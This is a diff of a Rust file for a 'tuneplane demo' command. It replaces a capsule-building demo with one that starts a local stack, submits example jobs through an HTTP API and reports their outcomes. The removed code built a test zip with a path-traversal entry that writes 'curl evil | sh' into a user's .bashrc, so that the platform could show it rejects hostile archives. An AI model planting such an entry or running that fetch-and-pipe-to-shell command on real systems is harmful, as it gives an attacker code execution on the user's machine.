@@ -1,128 +1,344 @@
 //! `tuneplane demo`: the main job on embedded defaults.
 //!
-//! Today it runs the capsule half of the platform end to end on this machine: validates the example
-//! job against the example fleet, builds its capsule twice from two different copies of the code
-//! (proving the identity is content-addressed), verifies it against its manifest, rejects a hostile
-//! archive, then unpacks the capsule and runs it with the platform runner, as a workload would.
+//! Starts the whole stack (`tuneplane dev`) in a temporary data directory, submits the examples
+//! through the HTTP API exactly as a user would, follows every job to its end with live progress,
+//! then prints a summary table, the capacity per series and the last lines of each job's archived
+//! logs. It exits 0 only if every example ended as it is meant to.
 
-use std::fs;
-use std::io::Cursor;
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
-use std::process::{Command, ExitCode};
+use std::process::ExitCode;
+use std::time::{Duration, Instant};
 
-use anyhow::{Context, bail};
-use tuneplane_core::capsule::{self, Limits};
+use anyhow::Context;
+use serde_json::Value;
+use tuneplane_core::capacity::CapacitySnapshot;
+use tuneplane_core::job::{JobRecord, JobState};
+
+use super::jobs::{print_capacity, read_logs_archive};
+use super::output::{clock, pools_of, print_table};
+use crate::client::{Api, ClientArgs, Output};
+use crate::dev::{DevArgs, Stack};
 
 /// Arguments of `demo`.
 #[derive(clap::Args)]
 pub struct Args {
-    /// Folder holding the examples (`hello-cpu/`, `fleet.yaml`).
+    /// Folder holding the examples and `fleet.yaml`.
     #[arg(long, default_value = "examples")]
     pub examples: PathBuf,
+    /// Give up after this many seconds.
+    #[arg(long, default_value_t = 300)]
+    pub timeout_seconds: u64,
 }
 
-/// Runs the demo; exits non-zero if any step does not behave as expected.
+/// How an example is meant to end.
+#[derive(Debug, Clone, Copy)]
+enum Expect {
+    Succeeded,
+    /// FAILED with this failure reason.
+    Failed(&'static str),
+    /// Refused at submit with a message containing this.
+    Rejected(&'static str),
+}
+
+/// The examples in submission order.
+const EXAMPLES: &[(&str, Expect)] = &[
+    ("hello-cpu", Expect::Succeeded),
+    ("ray-multipool", Expect::Succeeded),
+    ("queued-behind", Expect::Succeeded),
+    ("bad-image", Expect::Failed("PreRunningDeadlineExceeded")),
+    ("too-big", Expect::Rejected("largest h200 node has 8")),
+];
+
+struct Tracked {
+    example: &'static str,
+    expect: Expect,
+    job: Option<JobRecord>,
+    rejection: Option<String>,
+    last_line: String,
+}
+
+/// Runs the demo.
 pub fn run(args: &Args) -> anyhow::Result<ExitCode> {
-    let code = args.examples.join("hello-cpu");
-    let spec_path = code.join("tuneplane.yaml");
-    let fleet = args.examples.join("fleet.yaml");
-    let work = std::env::temp_dir().join(format!("tuneplane-demo-{}", std::process::id()));
-    fs::create_dir_all(&work)?;
-    let result = steps(&code, &spec_path, &fleet, &work);
-    let _ = fs::remove_dir_all(&work);
+    let data_dir = std::env::temp_dir().join(format!("tuneplane-demo-{}", std::process::id()));
+    let dev = DevArgs {
+        data_dir: data_dir.clone(),
+        port: 0,
+        fleet: args.examples.join("fleet.yaml"),
+        fail_images: Vec::new(),
+        no_exec: false,
+    };
+    let opts = dev.options()?;
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .enable_all()
+        .build()?;
+    let result = rt.block_on(async {
+        println!("starting the stack (API, embedded stores, simulated cluster in execution mode, reconciler) ...");
+        let stack = Stack::start(opts).await?;
+        println!("API {} — data in {}\n", stack.api_url, data_dir.display());
+        let outcome = demo(&stack, &args.examples, Duration::from_secs(args.timeout_seconds)).await;
+        stack.shutdown().await;
+        outcome
+    });
+    let _ = std::fs::remove_dir_all(&data_dir);
     result
 }
 
-fn steps(code: &Path, spec_path: &Path, fleet: &Path, work: &Path) -> anyhow::Result<ExitCode> {
-    println!(
-        "[1/5] validate {} against {}",
-        spec_path.display(),
-        fleet.display()
-    );
-    let Some(v) = super::load_spec(spec_path, Some(fleet))? else {
-        return Ok(ExitCode::FAILURE);
-    };
-    println!(
-        "      ok: {} ({:?}, {} pool(s))",
-        v.spec.name,
-        v.spec.kind(),
-        v.spec.pools.len()
-    );
-
-    println!("[2/5] build the capsule twice, from two copies of the code at different paths");
-    let copy = work.join("another/copy");
-    copy_dir(code, &copy)?;
-    let (a, built) =
-        capsule::build_from_source(code, &v.spec, &Limits::default(), work, Vec::new())?;
-    let (b, again) =
-        capsule::build_from_source(&copy, &v.spec, &Limits::default(), work, Vec::new())?;
-    if a != b {
-        bail!("the two builds differ: capsules are not deterministic");
-    }
-    println!(
-        "      identical: sha256:{} ({} bytes)",
-        built.sha256, built.size
-    );
-    println!("      storage key: {}", capsule::storage_key(&again.sha256));
-
-    println!("[3/5] verify the capsule against its manifest");
-    let ins = capsule::inspect(Cursor::new(&a))?;
-    for f in &ins.manifest.files {
-        println!("      {:>5o} {:>8}  {}", f.mode, f.size, f.path);
-    }
-
-    println!("[4/5] refuse a hostile archive (an entry that climbs out with '..')");
-    let evil = work.join("evil.zip");
-    fs::write(&evil, hostile_zip()?)?;
-    match capsule::build_from_source(&evil, &v.spec, &Limits::default(), work, Vec::new()) {
-        Err(e) if e.is_user_error() => println!("      rejected: {e}"),
-        Err(e) => return Err(e.into()),
-        Ok(_) => bail!("a hostile archive was accepted"),
-    }
-
-    println!("[5/5] unpack the capsule and run it with the platform runner");
-    let root = work.join("run");
-    zip::ZipArchive::new(Cursor::new(&a))?
-        .extract(&root)
-        .context("cannot unpack the capsule")?;
-    let status = Command::new("python3")
-        .arg(root.join(".tuneplane/runner.pex"))
-        .env("TUNEPLANE_JOB_ID", "demo-0001")
-        .status()
-        .context("cannot start python3 (the runner needs Python 3)")?;
-    if !status.success() {
-        bail!("the job exited with {status}");
-    }
-    println!(
-        "\ndemo ok: capsule sha256:{} ran and exited 0",
-        built.sha256
-    );
-    Ok(ExitCode::SUCCESS)
-}
-
-fn copy_dir(from: &Path, to: &Path) -> anyhow::Result<()> {
-    fs::create_dir_all(to)?;
-    for entry in fs::read_dir(from).with_context(|| format!("cannot read {}", from.display()))? {
-        let entry = entry?;
-        let target = to.join(entry.file_name());
-        if entry.file_type()?.is_dir() {
-            copy_dir(&entry.path(), &target)?;
-        } else {
-            fs::copy(entry.path(), &target)?;
+async fn demo(stack: &Stack, examples: &Path, timeout: Duration) -> anyhow::Result<ExitCode> {
+    let api = Api::new(&ClientArgs {
+        api: stack.api_url.clone(),
+        key: Some(stack.api_key.clone()),
+        output: Output::Table,
+    })?;
+    wait_for_capacity(&api).await?;
+    let started = Instant::now();
+    let mut tracked = Vec::new();
+    for (example, expect) in EXAMPLES {
+        let t = submit(&api, examples, example, *expect).await?;
+        match (&t.job, &t.rejection) {
+            (Some(j), _) => println!(
+                "[{:>5.1}s] {example:<14} submitted as {} ({})",
+                started.elapsed().as_secs_f64(),
+                j.id,
+                pools_of(&j.spec)
+            ),
+            (None, Some(r)) => println!(
+                "[{:>5.1}s] {example:<14} rejected at submit: {r}",
+                started.elapsed().as_secs_f64()
+            ),
+            _ => {}
         }
+        tracked.push(t);
     }
-    Ok(())
+    follow(&api, &mut tracked, started, timeout).await?;
+
+    println!("\nSUMMARY");
+    let rows: Vec<Vec<String>> = tracked.iter().map(summary_row).collect();
+    print_table(
+        &[
+            "EXAMPLE",
+            "JOB",
+            "KIND",
+            "POOLS",
+            "STATUS",
+            "REASON",
+            "QUEUED",
+            "PRE-RUNNING",
+            "RUN",
+            "AS EXPECTED",
+        ],
+        &rows,
+    );
+
+    println!("\nCAPACITY");
+    let body: Value = api.get("/capacity").await?;
+    let snap: CapacitySnapshot =
+        serde_json::from_value(body["snapshot"].clone()).context("no capacity snapshot")?;
+    print_capacity(&snap);
+
+    println!("\nLOGS (last lines of each archived log)");
+    for t in &tracked {
+        let Some(job) = &t.job else { continue };
+        print_log_tail(&api, t.example, job).await;
+    }
+    let ok = tracked.iter().all(as_expected);
+    if ok {
+        println!("\ndemo ok: every example ended as expected");
+        Ok(ExitCode::SUCCESS)
+    } else {
+        println!("\ndemo FAILED: some examples did not end as expected (see the last column)");
+        Ok(ExitCode::FAILURE)
+    }
 }
 
-fn hostile_zip() -> anyhow::Result<Vec<u8>> {
-    let mut w = capsule::zipw::ZipWriter::new(Vec::new());
-    let mut c = capsule::zipw::compressor();
-    w.add_bytes("train.py", 0o644, b"print('hi')\n", &mut c)?;
-    w.add_bytes(
-        "../../home/user/.bashrc",
-        0o644,
-        b"curl evil | sh\n",
-        &mut c,
-    )?;
-    Ok(w.finish()?.0)
+async fn wait_for_capacity(api: &Api) -> anyhow::Result<()> {
+    for _ in 0..100 {
+        let body: Value = api.get("/capacity").await?;
+        if !body["snapshot"].is_null() {
+            return Ok(());
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    anyhow::bail!("the reconciler published no capacity snapshot within 20 s")
+}
+
+async fn submit(
+    api: &Api,
+    examples: &Path,
+    example: &'static str,
+    expect: Expect,
+) -> anyhow::Result<Tracked> {
+    let dir = examples.join(example);
+    let spec = std::fs::read_to_string(dir.join("tuneplane.yaml"))
+        .with_context(|| format!("cannot read {}/tuneplane.yaml", dir.display()))?;
+    let code = super::super::client::pack::pack_quiet(&dir)?;
+    let body = serde_json::json!({
+        "spec": spec,
+        "code": {"inline": base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &code)},
+    });
+    let mut t = Tracked {
+        example,
+        expect,
+        job: None,
+        rejection: None,
+        last_line: String::new(),
+    };
+    match api
+        .post::<Value>(
+            "/jobs",
+            &body,
+            &[("idempotency-key", &format!("demo-{example}"))],
+        )
+        .await
+    {
+        Ok((_, v)) => {
+            t.job = Some(
+                serde_json::from_value(v["job"].clone()).context("unexpected submission answer")?,
+            )
+        }
+        Err(e) => match e.downcast_ref::<crate::client::ApiError>() {
+            Some(api_err) if api_err.status.is_client_error() => {
+                // One line for the table: the field errors if there are any, else the message.
+                let text = if api_err.details.trim().is_empty() {
+                    &api_err.message
+                } else {
+                    &api_err.details
+                };
+                t.rejection = Some(text.split_whitespace().collect::<Vec<_>>().join(" "));
+            }
+            _ => return Err(e),
+        },
+    }
+    Ok(t)
+}
+
+/// Polls every job until all have ended, printing each change of state or pending reason.
+async fn follow(
+    api: &Api,
+    tracked: &mut [Tracked],
+    started: Instant,
+    timeout: Duration,
+) -> anyhow::Result<()> {
+    loop {
+        let mut open = 0;
+        for t in tracked.iter_mut() {
+            let Some(job) = &t.job else { continue };
+            if job.state.is_terminal() {
+                continue;
+            }
+            let job: JobRecord = api.get(&format!("/jobs/{}", job.id)).await?;
+            let line = match (&job.pending, &job.failure) {
+                (_, Some(f)) => format!("{} ({:?}: {})", job.state, f.reason, f.message),
+                (Some(p), None) if !job.state.is_terminal() => {
+                    format!("{} — pending {:?}: {}", job.state, p.reason, p.message)
+                }
+                _ => job.state.to_string(),
+            };
+            if line != t.last_line {
+                println!(
+                    "[{:>5.1}s] {:<14} {line}",
+                    started.elapsed().as_secs_f64(),
+                    t.example
+                );
+                t.last_line = line;
+            }
+            if !job.state.is_terminal() {
+                open += 1;
+            }
+            t.job = Some(job);
+        }
+        if open == 0 {
+            return Ok(());
+        }
+        if started.elapsed() > timeout {
+            anyhow::bail!("{open} job(s) still running after {} s", timeout.as_secs());
+        }
+        tokio::time::sleep(Duration::from_millis(500)).await;
+    }
+}
+
+fn as_expected(t: &Tracked) -> bool {
+    match (t.expect, &t.job, &t.rejection) {
+        (Expect::Succeeded, Some(j), _) => j.state == JobState::Succeeded,
+        (Expect::Failed(reason), Some(j), _) => {
+            j.state == JobState::Failed
+                && j.failure
+                    .as_ref()
+                    .is_some_and(|f| format!("{:?}", f.reason) == reason)
+        }
+        (Expect::Rejected(needle), None, Some(msg)) => msg.contains(needle),
+        _ => false,
+    }
+}
+
+fn summary_row(t: &Tracked) -> Vec<String> {
+    let ok = if as_expected(t) { "yes" } else { "NO" }.to_string();
+    let Some(j) = &t.job else {
+        let why = t.rejection.clone().unwrap_or_default();
+        return vec![
+            t.example.into(),
+            "-".into(),
+            "-".into(),
+            "-".into(),
+            "REJECTED".into(),
+            why,
+            "-".into(),
+            "-".into(),
+            "-".into(),
+            ok,
+        ];
+    };
+    let reason = j
+        .failure
+        .as_ref()
+        .map(|f| format!("{:?}", f.reason))
+        .unwrap_or_default();
+    vec![
+        t.example.into(),
+        j.id.clone(),
+        format!("{:?}", j.spec.kind()),
+        pools_of(&j.spec),
+        j.state.to_string(),
+        reason,
+        clock(
+            Some(j.submitted_at_ms),
+            j.admitted_at_ms.or(j.finished_at_ms),
+        ),
+        clock(j.admitted_at_ms, j.running_at_ms.or(j.finished_at_ms)),
+        clock(j.running_at_ms, j.finished_at_ms),
+        ok,
+    ]
+}
+
+async fn print_log_tail(api: &Api, example: &str, job: &JobRecord) {
+    let files = async {
+        let link: Value = api.get(&format!("/jobs/{}/logs", job.id)).await?;
+        let url = link["url"].as_str().context("no logs url")?;
+        let bytes = api
+            .raw(reqwest::Method::GET, url)
+            .send()
+            .await?
+            .error_for_status()?
+            .bytes()
+            .await?;
+        read_logs_archive(&bytes)
+    }
+    .await;
+    match files {
+        Ok(files) => {
+            let mut by_name: BTreeMap<String, String> = files.into_iter().collect();
+            by_name.remove("index.json");
+            for (name, text) in by_name {
+                let lines: Vec<&str> = text.lines().collect();
+                if lines.is_empty() {
+                    continue;
+                }
+                println!("--- {example}: {name}");
+                for l in &lines[lines.len().saturating_sub(4)..] {
+                    println!("    {l}");
+                }
+            }
+        }
+        Err(e) => println!("--- {example}: no archived logs ({e:#})"),
+    }
 }
